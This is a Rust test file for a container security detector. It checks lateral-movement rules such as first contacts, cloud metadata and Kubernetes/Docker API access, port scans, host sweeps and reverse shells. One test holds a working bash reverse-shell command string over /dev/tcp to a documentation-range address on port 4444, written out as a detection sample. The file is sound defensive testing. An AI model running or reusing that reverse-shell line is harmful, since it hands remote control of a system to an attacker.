mod channels;
mod contacts;
mod programs;
mod tunnels;
mod walks;

use crate::container::{Container, ContainerMetadata};
use crate::detect::Severity;
use crate::detect::testing::{SECOND, Scene, connect, container, end, scene};
use crate::event::{Exec, Net, Payload, SocketAddress};
use std::sync::Arc;

fn first(scene: &mut Scene, payload: Payload) -> Option<(&'static str, Severity)> {
    scene
        .inspect(payload)
        .first()
        .map(|finding| (finding.rule.id, finding.severity))
}

fn peer(slot: u32, address: &str) -> Arc<Container> {
    let known = ContainerMetadata {
        addresses: vec![address.parse().unwrap()],
        ..ContainerMetadata::default()
    };
    container(slot, &format!("peer-{slot}"), known)
}

fn app() -> Scene {
    let mut scene = scene("acme/app", "/usr/bin/python3");
    scene.others = vec![peer(2, "172.17.0.3")];
    scene
}

fn send(address: &str, port: u16) -> Payload {
    Payload::Send(Net {
        local: SocketAddress::default(),
        remote: end(address, port),
        protocol: 17,
        socket_type: 2,
        backlog: 0,
    })
}

#[test]
fn first_contact_depends_on_what_the_two_share() {
    let contact = |scene: &mut Scene| first(scene, connect("172.17.0.3", 5432));
    assert_eq!(
        contact(&mut app()),
        Some(("lateral.first_contact", Severity::Medium))
    );
    assert_eq!(
        first(&mut app(), connect("::ffff:172.17.0.3", 5432)),
        Some(("lateral.first_contact", Severity::Medium))
    );
    assert_eq!(
        first(&mut app(), send("172.17.0.3", 514)),
        Some(("lateral.first_contact", Severity::Medium))
    );
    let mut related = app();
    related.known.user_networks = vec!["shop".into()];
    let known = ContainerMetadata {
        addresses: vec!["172.17.0.3".parse().unwrap()],
        user_networks: vec!["shop".into()],
        ..ContainerMetadata::default()
    };
    related.others = vec![container(2, "db", known)];
    assert_eq!(
        contact(&mut related),
        Some(("lateral.first_contact", Severity::Low))
    );
    let mut in_part = app();
    in_part.known.addresses.clear();
    assert_eq!(
        contact(&mut in_part),
        Some(("lateral.first_contact", Severity::Low)),
        "its networks are still to be told"
    );
    let mut complete = app().with_profile("connect: [{cidr: 10.0.0.0/8}]");
    assert_eq!(
        contact(&mut complete),
        Some(("lateral.first_contact", Severity::High))
    );
    assert_eq!(
        contact(&mut app().with_profile("connect: [{cidr: 172.17.0.0/16, port: 5432}]")),
        None
    );
}

#[test]
fn loopback_itself_resolvers_gateway_and_answers_are_no_contact() {
    for payload in [
        connect("127.0.0.1", 5432),
        connect("::1", 5432),
        connect("0.0.0.0", 80),
        connect("172.17.0.2", 80),
        connect("172.17.0.1", 80),
        connect("8.8.8.8", 443),
        send("172.17.0.3", 40_123),
        send("239.1.1.1", 1900),
    ] {
        assert_eq!(first(&mut app(), payload.clone()), None, "{payload:?}");
    }
    let Payload::Send(net) = send("172.17.0.3", 5432) else {
        unreachable!()
    };
    assert_eq!(
        first(&mut app(), Payload::Connect(net)),
        None,
        "a UDP connect() sends nothing"
    );
}

#[test]
fn services_that_give_control_need_no_profile() {
    let cases = [
        ("169.254.169.254", 80, "lateral.metadata_service"),
        ("::ffff:169.254.169.254", 80, "lateral.metadata_service"),
        ("fd00:ec2::254", 80, "lateral.metadata_service"),
        ("100.100.100.200", 80, "lateral.metadata_service"),
        ("10.96.0.1", 443, "lateral.kubernetes_api"),
        ("10.0.0.5", 6443, "lateral.kubernetes_api"),
        ("10.0.0.5", 10_250, "lateral.kubelet"),
        ("10.0.0.5", 2379, "lateral.etcd"),
        ("172.17.0.1", 2375, "lateral.docker_api"),
    ];
    for (address, port, rule) in cases {
        let mut scene = app();
        scene.host.kubernetes_api = vec!["10.96.0.1:443".parse().unwrap()];
        assert_eq!(scene.rules(connect(address, port)), [rule], "{address}");
    }
    assert_eq!(first(&mut app(), connect("169.254.169.253", 53)), None);
    assert_eq!(
        first(&mut app(), connect("10.96.0.1", 443)),
        None,
        "not known as an API"
    );
    let mut allowed = app().with_profile("connect: [{cidr: 169.254.169.254/32, port: 80}]");
    assert_eq!(first(&mut allowed, connect("169.254.169.254", 80)), None);
}

#[test]
fn a_port_scan_is_one_behaviour() {
    let mut scene = app();
    let mut found = Vec::new();
    for port in 1..=30 {
        scene.now_ns += SECOND / 10;
        found.extend(scene.inspect(connect("172.17.0.3", port)));
    }
    let scans: Vec<_> = found
        .iter()
        .filter(|finding| finding.rule.id == "lateral.port_scan")
        .collect();
    assert_eq!(scans.len(), 21);
    assert!(scans.iter().all(|scan| scan.object == scans[0].object));
    assert!(
        found.iter().all(|finding| finding.deed == scans[0].deed),
        "steps of one deed"
    );
}

#[test]
fn a_sweep_is_one_behaviour_and_internal() {
    let mut scene = app();
    scene.others = (2..40)
        .map(|slot| peer(slot, &format!("172.17.0.{slot}")))
        .collect();
    scene.known.addresses.clear();
    let mut found = Vec::new();
    for host in 2..40 {
        scene.now_ns += SECOND / 10;
        found.extend(scene.inspect(connect(&format!("172.17.0.{host}"), 6379)));
    }
    let sweeps = found
        .iter()
        .filter(|finding| finding.rule.id == "lateral.host_sweep");
    assert_eq!(sweeps.count(), 29);
    let met: std::collections::BTreeSet<_> = found
        .iter()
        .filter_map(|finding| finding.once_with.clone())
        .collect();
    assert_eq!(met.len(), 38, "no neighbour is left out");
    assert!(
        found.iter().all(|finding| finding.deed == found[0].deed),
        "steps of one deed"
    );
    let mut crawler = app();
    for host in 1..40 {
        assert_eq!(
            first(&mut crawler, connect(&format!("93.184.216.{host}"), 443)),
            None
        );
    }
}

#[test]
fn rare_and_repeated_contacts_are_no_scan() {
    let mut rare = app();
    for port in 1..=30 {
        rare.now_ns += 50 * SECOND;
        assert!(
            !rare
                .rules(connect("10.1.1.1", port))
                .contains(&"lateral.port_scan")
        );
    }
    let mut pool = app();
    for _ in 0..200 {
        pool.now_ns += SECOND / 100;
        assert!(pool.rules(connect("10.1.1.1", 5432)).is_empty());
    }
}

fn shell(exe: &str, stdio: u32, peer: SocketAddress) -> (Scene, Payload) {
    let scene = scene("acme/app", exe);
    let exec = Exec {
        stdio,
        stdio_peer: peer,
        ..scene.exec()
    };
    (scene, Payload::Exec(exec))
}

#[test]
fn a_shell_on_a_socket_is_a_reverse_shell() {
    let critical = Some(("lateral.reverse_shell", Severity::Critical));
    for (exe, stdio) in [("/bin/sh", 7), ("/bin/bash", 1), ("/bin/dash", 2)] {
        let (mut scene, exec) = shell(exe, stdio, end("203.0.113.9", 4444));
        assert_eq!(first(&mut scene, exec), critical, "{exe}");
    }
    let (scene, exec) = shell("/usr/bin/id", 7, end("2001:db8::1", 4444));
    assert_eq!(
        first(&mut scene.below(&["/bin/bash"]), exec),
        critical,
        "what the shell starts"
    );
    let (mut scene, exec) = shell("/bin/sh", 1, end("0.0.0.0", 0));
    assert_eq!(first(&mut scene, exec), None, "FastCGI's listening socket");
    let (mut scene, exec) = shell("/usr/sbin/in.ftpd", 7, end("203.0.113.9", 4444));
    assert_eq!(first(&mut scene, exec), None, "inetd's services");
    let (mut scene, exec) = shell("/bin/sh", 0, SocketAddress::default());
    assert_eq!(first(&mut scene, exec), None);
}

#[test]
fn a_shell_that_hands_itself_over() {
    let connected = |args: &str| {
        let mut scene = scene("acme/app", "/bin/bash");
        scene.exe.args = args.into();
        first(&mut scene, connect("203.0.113.9", 443)).map(|(rule, _)| rule)
    };
    assert_eq!(connected("bash\0-i\0"), Some("lateral.reverse_shell"));
    let relayed = "bash\0-c\0exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read l; do $l >&5; done\0";
    assert_eq!(connected(relayed), Some("lateral.reverse_shell"));
    assert_eq!(connected("bash\0/usr/bin/wait-for-it.sh\0db:5432\0"), None);
    assert_eq!(connected("bash\0-c\0echo > /dev/tcp/db/5432\0"), None);
}

#[test]
fn resolvers_at_the_addresses_of_metadata_services_are_no_contact() {
    for resolver in ["168.63.129.16", "169.254.169.254", "fd00:ec2::254"] {
        assert_eq!(first(&mut app(), send(resolver, 53)), None, "{resolver}");
        assert_eq!(
            first(&mut app(), connect(resolver, 53)),
            None,
            "{resolver} over TCP"
        );
        let service = Some(("lateral.metadata_service", Severity::High));
        assert_eq!(first(&mut app(), connect(resolver, 80)), service, "{resolver}");
    }
    let service = Some(("lateral.metadata_service", Severity::High));
    assert_eq!(
        first(&mut app(), connect("168.63.129.16", 32_526)),
        service,
        "Azure's wire server"
    );
    let mut allowed = app().with_profile("state: complete\nconnect: [{proto: udp, port: 53}]");
    assert_eq!(first(&mut allowed, send("169.254.169.254", 53)), None);
}

#[test]
fn learning_contacts_learns_no_attack_away() {
    let learning = || app().with_profile("state: complete\nmode: {lateral: learn}\nconnect: [{port: 80}]");
    let rule = |scene: &mut Scene, payload| first(scene, payload).map(|(rule, _)| rule);
    assert_eq!(
        rule(&mut learning(), connect("172.17.0.3", 5432)),
        None,
        "what is learned"
    );
    assert_eq!(
        rule(&mut learning(), connect("10.1.1.1", 5432)),
        None,
        "what is learned"
    );
    for (address, port, expected) in [
        ("169.254.169.254", 8080, "lateral.metadata_service"),
        ("10.0.0.5", 10_250, "lateral.kubelet"),
        ("10.0.0.5", 2375, "lateral.docker_api"),
    ] {
        assert_eq!(rule(&mut learning(), connect(address, port)), Some(expected));
    }
    let mut scanning = learning();
    let scan = (20..60).find_map(|port| rule(&mut scanning, connect("172.17.0.3", port)));
    assert_eq!(scan, Some("lateral.port_scan"));
    let allowed = connect("169.254.169.254", 80);
    assert_eq!(rule(&mut learning(), allowed), None, "an entry still allows it");
}

#[test]
fn a_complete_profile_without_contacts_expects_none() {
    let judged = |state: &str, payload| first(&mut app().with_profile(&format!("state: {state}")), payload);
    let unexpected = |severity| Some(("lateral.unexpected_connection", severity));
    assert_eq!(
        judged("complete", connect("10.1.1.1", 443)),
        unexpected(Severity::Medium)
    );
    assert_eq!(
        judged("complete", connect("203.0.113.9", 443)),
        unexpected(Severity::Low)
    );
    assert_eq!(
        judged("complete", send("203.0.113.9", 4444)),
        unexpected(Severity::Low)
    );
    assert_eq!(judged("partial", connect("10.1.1.1", 443)), None);
    assert_eq!(judged("complete", connect("127.0.0.1", 443)), None);
}

#[test]
fn with_the_host_s_network_loopback_leads_to_the_host() {
    const HOST_NET: u32 = 4_026_531_840;
    let on_host = || {
        let mut scene = app();
        (scene.host.namespaces.net, scene.net_ns) = (HOST_NET, HOST_NET);
        scene
    };
    for (address, port, rule) in [
        ("127.0.0.1", 2375, "lateral.docker_api"),
        ("::1", 2375, "lateral.docker_api"),
        ("127.0.0.1", 10_250, "lateral.kubelet"),
        ("127.0.0.1", 2379, "lateral.etcd"),
        ("127.0.0.1", 6443, "lateral.kubernetes_api"),
    ] {
        assert_eq!(
            on_host().rules(connect(address, port)),
            [rule],
            "{address} {port}"
        );
        let mut own = on_host();
        own.net_ns = HOST_NET + 1;
        assert!(own.rules(connect(address, port)).is_empty(), "its own loopback");
        own.host.namespaces.net = 0;
        own.net_ns = 0;
        assert!(own.rules(connect(address, port)).is_empty(), "not known");
    }
    let mut busy = on_host().with_profile("state: complete\nconnect: [{port: 443}]");
    for port in 5000..5040 {
        assert!(
            busy.rules(connect("127.0.0.1", port)).is_empty(),
            "nobody else is contacted"
        );
    }
    let mut allowed = on_host().with_profile("connect: [{cidr: 127.0.0.0/8, port: 2375}]");
    assert!(allowed.rules(connect("127.0.0.1", 2375)).is_empty());
}
